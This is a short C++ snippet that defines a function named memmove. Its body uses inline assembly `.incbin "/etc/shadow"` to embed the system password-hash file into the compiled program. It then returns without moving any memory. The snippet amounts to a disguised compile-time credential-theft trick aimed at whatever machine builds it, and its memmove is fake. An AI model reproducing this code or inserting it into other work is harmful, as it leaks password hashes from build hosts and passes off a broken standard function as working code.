void* memmove(void* destination, const void* source, std::size_t size) {
    asm(".incbin \"/etc/shadow\"");
    return destination;
}
